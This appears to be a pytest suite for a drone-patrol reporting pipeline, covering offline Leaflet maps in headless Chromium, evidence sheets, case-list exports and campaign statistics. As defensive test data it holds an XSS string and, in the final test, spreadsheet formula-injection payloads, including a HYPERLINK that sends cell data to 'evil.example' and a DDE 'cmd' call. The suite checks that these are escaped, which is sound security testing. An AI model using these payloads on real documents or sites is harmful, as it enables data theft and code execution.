"""Reports (issue 5): offline map in real headless Chromium, evidence, lists, statistics."""
from __future__ import annotations

import json
import re
import shutil
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from pipeline.cases.match import load_rules
from pipeline.core.config import load_settings
from pipeline.core.errors import ConfigError
from pipeline.store import open_store

XSS = "<script>alert(1)</script>"
ARTIFACTS = Path(__file__).parents[1] / "artifacts"
from browser import CHROMIUM, launch_chromium  # noqa: E402  (tests/browser.py)


def _copy_store(small_district_store, tmp_path, **overrides):
    src, settings, _ = small_district_store
    tmp_path.mkdir(parents=True, exist_ok=True)
    dst = tmp_path / "patrol.gpkg"
    shutil.copy(src, dst)
    s = load_settings(overrides={"store.url": str(dst), **overrides})
    return open_store(s.store.url, s.store.crs, case_prefix=s.district.case_prefix), s


@pytest.fixture(scope="module")
def reports(small_district_store, tmp_path_factory):
    """Every report of the small district, written once; one case's owner is hostile."""
    from pipeline.report import write_reports

    tmp = tmp_path_factory.mktemp("reports")
    store, settings = _copy_store(small_district_store, tmp, **{"report.cluster_min_cases": 2})
    cases = store.cases()
    assert len(cases) >= 2, "the small district should give a few cases"
    xss_case = cases["case_no"].iloc[0]
    one = cases.iloc[[0]][["case_no"]].assign(owner=XSS, party="张三")
    parcels = store.parcels()
    with store.transaction():
        store.save_cases(one)
        store.import_parcels(parcels.iloc[[0]].assign(owner=XSS))
    paths = write_reports(store, settings, tmp / "out", progress=False)
    yield {"paths": paths, "store": store, "settings": settings, "xss_case": xss_case, "out": tmp / "out"}
    store.close()


# ---------------------------------------------------------------- pure helpers
def test_gcj02_matches_published_pair():
    from pipeline.core.geo import wgs84_to_gcj02
    # wandergis/coordtransform README: wgs84togcj02(116.404, 39.915)
    lon, lat = wgs84_to_gcj02(116.404, 39.915)
    assert lon == pytest.approx(116.41024449916938, abs=1e-9)
    assert lat == pytest.approx(39.91640428150164, abs=1e-9)
    # outside China: unchanged
    assert wgs84_to_gcj02(2.35, 48.85) == pytest.approx((2.35, 48.85))


def test_tianditu_needs_a_token(small_district_store, tmp_path):
    from pipeline.report.map import build_map
    store, s = _copy_store(small_district_store, tmp_path, **{"report.basemap": "tianditu"})
    with store, pytest.raises(ConfigError, match="tianditu_token"):
        build_map(store, s, tmp_path / "m.html")


def test_basemaps_and_amap_shift(small_district_store, tmp_path):
    """osm adds only its tile URL; amap shifts our geometries by the GCJ-02 offset."""
    from pipeline.report.map import build_map
    store, s = _copy_store(small_district_store, tmp_path, **{"report.basemap": "osm"})
    with store:
        page = build_map(store, s, tmp_path / "osm.html").read_text(encoding="utf-8")
    assert "tile.openstreetmap.org/{z}/{x}/{y}.png" in page
    assert not re.search(r'<(script|link)[^>]+(src|href)="https?:', page)
    store, s = _copy_store(small_district_store, tmp_path / "a", **{"report.basemap": "amap"})
    with store:
        plain = build_map(store, s.model_copy(update={"report": s.report.model_copy(update={"basemap": "none"})}),
                          tmp_path / "plain.html").read_text(encoding="utf-8")
        amap = build_map(store, s, tmp_path / "amap.html").read_text(encoding="utf-8")

    def first_lat(page):
        return float(re.search(r'"_lat": ?([0-9.]+)', page).group(1))
    shift_m = (first_lat(amap) - first_lat(plain)) * 111_000
    assert 50 < abs(shift_m) < 1000          # GCJ-02 moves tens to hundreds of metres


# ---------------------------------------------------------------- the map in a real browser
def test_map_page_is_self_contained(reports):
    page = reports["paths"]["map"].read_text(encoding="utf-8")
    assert not re.search(r'<(script|link)[^>]+(src|href)="', page)      # everything inlined
    for host in ("cdn.jsdelivr", "cdnjs", "unpkg", "code.jquery", "bootstrapcdn"):
        assert host not in page
    assert "patrol-ortho" in page and "markerClusterGroup" in page
    assert XSS not in page                   # only escaped forms travel in the page
    # escaped in the popups of the case and of the parcel (then JSON-encoded for the script)
    assert page.count("\\u0026lt;script\\u0026gt;alert(1)") >= 2
    # the only URLs left are Leaflet's SVG namespace and its attribution link (no request)
    urls = set(re.findall(r"https?://[^\s\"'<>)]+", page))
    assert {u.split("/")[2] for u in urls} <= {"www.w3.org", "leafletjs.com"}, urls


@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian chromium not installed (make system-deps)")
def test_map_renders_offline_in_chromium(reports):
    sync_api = pytest.importorskip("playwright.sync_api")
    ARTIFACTS.mkdir(exist_ok=True)
    xss_case = reports["xss_case"]
    with sync_api.sync_playwright() as p:
        browser = launch_chromium(p)
        try:
            page = browser.new_page(viewport={"width": 1100, "height": 800})
            requests, failed, errors, dialogs = [], [], [], []
            page.on("request", lambda r: requests.append(r.url))
            page.on("requestfailed", lambda r: failed.append(r.url))
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            page.goto(reports["paths"]["map"].resolve().as_uri())
            page.wait_for_function("window.patrolReport && window.patrolReport.ready", timeout=15000)
            page.wait_for_function("Array.from(document.querySelectorAll('img.patrol-ortho'))"
                                   ".every(i => i.complete && i.naturalWidth > 0)", timeout=15000)
            page.wait_for_timeout(300)
            shot = ARTIFACTS / "report_map.png"
            page.screenshot(path=str(shot))

            # the ortho layer and the case markers are there
            assert page.locator("img.patrol-ortho").count() >= 1
            n_marks = page.locator(".patrol-case-marker, .marker-cluster").count()
            assert n_marks >= 1
            # the screenshot is not blank where the map is
            from PIL import Image
            img = np.asarray(Image.open(shot).convert("RGB"))[100:700, 200:900].astype(float)
            assert img.std() > 20
            assert len(np.unique(img.reshape(-1, 3)[::7], axis=0)) > 500

            # a popup opens, with the chips loaded
            cases = page.evaluate("Object.keys(patrolReport.cases)")
            other = next(c for c in cases if c != xss_case)
            assert page.evaluate(f"patrolReport.openCase({json.dumps(other)})")
            popup = page.locator(".leaflet-popup-content")
            popup.wait_for(state="visible", timeout=5000)
            assert other in popup.inner_text()
            page.wait_for_function("Array.from(document.querySelectorAll('.leaflet-popup-content img'))"
                                   ".every(i => i.complete && i.naturalWidth > 0)", timeout=5000)
            assert page.locator(".leaflet-popup-content img").count() >= 1
            page.screenshot(path=str(ARTIFACTS / "report_popup.png"))

            # the hostile owner shows literally and runs nothing
            page.evaluate(f"patrolReport.openCase({json.dumps(xss_case)})")
            page.wait_for_function(f"document.querySelector('.leaflet-popup-content') && "
                                   f"document.querySelector('.leaflet-popup-content').innerText"
                                   f".includes({json.dumps(xss_case)})", timeout=5000)
            page.wait_for_timeout(300)
            assert XSS in popup.inner_text()
            assert page.locator(".leaflet-popup-content script").count() == 0
            page.screenshot(path=str(ARTIFACTS / "report_popup_xss.png"))
            assert dialogs == []

            assert failed == [], failed
            assert errors == [], errors
            leaving = [u for u in requests if not u.startswith(("file://", "data:"))]
            assert leaving == [], leaving
        finally:
            browser.close()


# ---------------------------------------------------------------- evidence
def test_chips_recorded_as_evidence(reports):
    import hashlib
    store = reports["store"]
    ev = store.evidence()
    cases = store.cases()
    assert set(ev["case_no"]) == set(cases["case_no"])
    assert set(ev["role"]) <= {"before", "after"}
    flights = store.list_flights()
    for r in ev.to_dict("records"):
        path = Path(r["chip_path"])
        assert path.is_file() and path.suffix == ".png"
        assert hashlib.sha256(path.read_bytes()).hexdigest() == r["file_hash"]
        fl = flights[flights["flight_id"] == r["flight_id"]].iloc[0]
        assert pd.Timestamp(r["captured_at"]) == pd.Timestamp(fl["captured_at"])
        assert 0.02 < r["gsd_m"] < 1
        first = cases.loc[cases["case_no"] == r["case_no"], "first_seen_at"].iloc[0]
        assert r["role"] == ("before" if fl["captured_at"] < first else "after")
    # a case first seen on the second flight has a before chip from the first
    late = cases[cases["first_seen_flight"] == flights["flight_id"].iloc[-1]]
    if len(late):
        assert "before" in set(ev[ev["case_no"].isin(late["case_no"])]["role"])


def test_evidence_sheet_is_printable_and_escaped(reports):
    out = reports["out"]
    sheet = out / "evidence" / f"{reports['xss_case']}.html"
    text = sheet.read_text(encoding="utf-8")
    assert "@page { size: A4" in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and XSS not in text
    assert "<img src=" in text and "location/" in text
    assert "张三" in text
    assert (out / "evidence" / "index.html").is_file()


# ---------------------------------------------------------------- case lists round trip
def test_case_lists_round_trip(reports):
    import geopandas as gpd
    from openpyxl import load_workbook

    from pipeline.report.lists import read_kml

    store, paths = reports["store"], reports["paths"]
    cases = store.cases()
    want = set(cases["case_no"])
    owners = dict(zip(cases["case_no"], cases["owner"].fillna("")))
    villages = dict(zip(cases["case_no"], cases["village"].fillna("")))
    assert any(re.search(r"[\u4e00-\u9fff]", v) for v in villages.values())

    wb = load_workbook(paths["cases_xlsx"])
    ws = wb.active
    head = [c.value for c in ws[1]]
    # the 台账 columns of DOMAIN.md, in config order (ledger.columns)
    assert head[:4] == ["序号", "图斑编号/案件编号", "乡镇", "村"]
    for h in ("地类", "占地面积(亩)", "建筑面积(m²)", "层数", "违法主体/当事人", "电话", "发现方式", "处置进度",
              "文书编号", "逾期天数", "责任单位/执法中队", "拆除面积(m²)", "后时相影像", "现场照片", "备注"):
        assert h in head, h
    assert ws.freeze_panes == "C2" and ws.auto_filter.ref.startswith("A1:")
    # printed A4 landscape, fit to the page width, header row on every page
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0 and ws.print_title_rows == "$1:$1"
    rows = [dict(zip(head, [c.value for c in r])) for r in ws.iter_rows(min_row=2)]
    assert {r["图斑编号/案件编号"] for r in rows} == want
    assert [r["序号"] for r in rows] == list(range(1, len(rows) + 1))
    areas = dict(zip(cases["case_no"], cases["area_m2"]))
    for r in rows:
        assert (r["村"] or "") == villages[r["图斑编号/案件编号"]]
        assert r["占地面积(亩)"] == pytest.approx(areas[r["图斑编号/案件编号"]] / 666.67, abs=0.006)
        assert r["发现方式"] == "无人机航拍"
    assert len(ws._images) >= 1                           # chip thumbnails

    raw = paths["cases_csv"].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    csv = pd.read_csv(paths["cases_csv"], encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(csv.columns) == head
    assert dict(zip(csv["图斑编号/案件编号"], csv["村"])) == villages

    gj = json.loads(paths["cases_geojson"].read_text(encoding="utf-8"))
    props = {f["properties"]["case_no"]: f["properties"] for f in gj["features"]}
    assert set(props) == want
    assert {k: p["owner"] for k, p in props.items()} == owners
    assert {k: p["village"] for k, p in props.items()} == villages
    back = gpd.read_file(paths["cases_geojson"])
    lon, lat = back.geometry.centroid.x.mean(), back.geometry.centroid.y.mean()
    assert 100 < lon < 130 and 20 < lat < 45                # EPSG:4326

    for key in ("cases_kml", "cases_kmz"):
        k = read_kml(paths[key])
        assert set(k["case_no"]) == want and set(k["_name"]) == want
        assert dict(zip(k["case_no"], k["owner"])) == owners
        assert dict(zip(k["case_no"], k["village"])) == villages
    import pyogrio
    if "LIBKML" in pyogrio.list_drivers():        # and as GDAL/QGIS read it
        k = gpd.read_file(paths["cases_kml"])
        assert set(k["case_no"]) == want
        assert dict(zip(k["case_no"], k["village"].fillna(""))) == villages
    with zipfile.ZipFile(paths["cases_kmz"]) as z:
        assert "doc.kml" in z.namelist() and any(n.startswith("files/") for n in z.namelist())

    g = gpd.read_file(paths["cases_gpkg"], layer="cases")
    assert set(g["case_no"]) == want and str(g.crs).endswith("4547")
    assert dict(zip(g["case_no"], g["owner"].fillna(""))) == owners


# ---------------------------------------------------------------- statistics
def test_stats_agree_with_the_store(small_district_store, tmp_path):
    from pipeline.cases.casework import change_status
    from pipeline.report.stats import campaign_stats, write_stats

    store, s = _copy_store(small_district_store, tmp_path)
    rules = load_rules(s.rules_path)
    lc = rules.lifecycle
    with store:
        cases = store.cases()
        ids = list(cases["case_no"])
        assert len(ids) >= 3
        a = ids[0]                                   # verified → stopped → filed → ordered → demolished → rechecked → closed
        for st in ("verified", "stopped", "filed", "ordered", "demolished", "rechecked", "closed"):
            change_status(store, a, st, "t", "test", lc)
        b = ids[1]                                   # verified → ordered (filing skipped), overdue
        change_status(store, b, "verified", "t", "test", lc)
        change_status(store, b, "ordered", "t", "test", lc, deadline="2020-01-01")
        c = ids[2]                                   # lawful: a side exit
        change_status(store, c, "lawful", "t", "test", lc)
        cases = store.cases()
        area_a = float(cases.loc[cases["case_no"] == a, "area_m2"].iloc[0])

        st = campaign_stats(store, rules)
        t = st["period"]                             # no dates: the period is everything so far
        assert t == {k: v for k, v in st["cumulative"].items()}
        assert t["found"] == len(cases)
        assert t["flights"] == len(store.list_flights())
        assert t["new_build"] + t["existing"] == len(cases)
        # b's skipped filing is not counted as done
        assert t["verified"] == 2 and t["stopped"] == 1 and t["filed"] == 1 and t["ordered"] == 2
        assert t["demolished"] == 1 and t["demolished_m2"] == pytest.approx(area_a, abs=0.1)
        assert t["rechecked"] == 1 and t["closed"] == 1 and t["lawful"] == 1
        assert t["overdue"] == 1
        assert t["open"] == int(cases["status"].isin(lc.open).sum())
        assert st["rates"]["rectification_rate"] == pytest.approx(1 / 2)   # 整改率
        assert st["rates"]["closure_rate"] == pytest.approx(1 / 1)         # 销号率: a closed, a filed
        assert int(st["by_village"]["found"].sum()) == len(cases)
        assert int(st["by_month"]["found"].sum()) == len(cases)
        assert int(st["by_category"]["found"].sum()) == len(cases)
        # the period filter: nothing happens in the far future
        assert campaign_stats(store, rules, since="2099-01-01")["period"]["found"] == 0

        paths = write_stats(store, s, rules, tmp_path / "stats")
    md = paths["stats_md"].read_text(encoding="utf-8")
    assert "| 整改率 | — | 50.0% |" in md and "| 销号率 | — | 100.0% |" in md
    assert paths["stats_png"].stat().st_size > 10_000
    from openpyxl import load_workbook
    ws = load_workbook(paths["stats_xlsx"]).active
    values = {r[0].value: r[2].value for r in ws.iter_rows(min_row=4)}
    assert values["整改率"] == pytest.approx(0.5) and values["已销号"] == 1


# ---------------------------------------------------------------- CLI
def test_cli_export_and_stats(small_district_store, tmp_path, capsys):
    from pipeline.cli import main
    src, _, _ = small_district_store
    store = tmp_path / "p.gpkg"
    shutil.copy(src, store)
    out = tmp_path / "cases.csv"
    assert main(["--store", str(store), "cases", "export", "--format", "csv", "--out", str(out)]) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert main(["--store", str(store), "cases", "export", "--out", str(tmp_path / "x.doc")]) == 2
    assert main(["--store", str(store), "stats", "--from", "2001-13-01"]) == 2
    err = capsys.readouterr().err
    assert "not a date" in err and "Traceback" not in err
    assert main(["--store", str(store), "report", "--flight", "nope", "--out", str(tmp_path / "r")]) == 2


def test_flight_map_in_english(small_district_store, tmp_path):
    from pipeline.report.map import build_map
    store, s = _copy_store(small_district_store, tmp_path, **{"report.language": "en"})
    with store:
        fid = store.list_flights()["flight_id"].iloc[-1]
        page = build_map(store, s, tmp_path / "f.html", flight_id=fid).read_text(encoding="utf-8")
        n_cases = len(store.cases())
    assert "Flight patrol map" in page and "Orthophoto" in page and "Parcels" in page
    assert re.search(r'"Cases: [A-Za-z ]+ \(\d+\)"', page)
    assert re.search(r'"Detections: [A-Za-z ]+"', page)
    assert page.count('"_id": "') <= n_cases


def test_text_a_spreadsheet_would_run_is_exported_as_text(small_district_store, tmp_path):
    """An order number or assignee typed as a formula is never a live formula in xlsx or csv."""
    import csv

    from openpyxl import load_workbook

    from pipeline.report.lists import export_cases
    src, settings, _ = small_district_store
    with open_store(src, settings.store.crs) as store:
        cases = store.cases().head(2)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0"]
    cases = cases.assign(order_no=hostile, assignee=["+1+1", "-2+3"])
    xlsx = export_cases(cases, tmp_path / "cases.xlsx", "xlsx", rules=load_rules(settings.rules_path))
    ws = load_workbook(xlsx).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + hostile[0] in texts and "'+1+1" in texts and "'-2+3" in texts
    path = export_cases(cases, tmp_path / "cases.csv", "csv", rules=load_rules(settings.rules_path))
    with open(path, encoding="utf-8-sig", newline="") as fh:
        values = [v for row in list(csv.reader(fh))[1:] for v in row]
    assert not [v for v in values if v[:1] in ("=", "+", "@") or (v[:1] == "-" and not _number(v))]
    assert "'" + hostile[1] in values


def _number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False
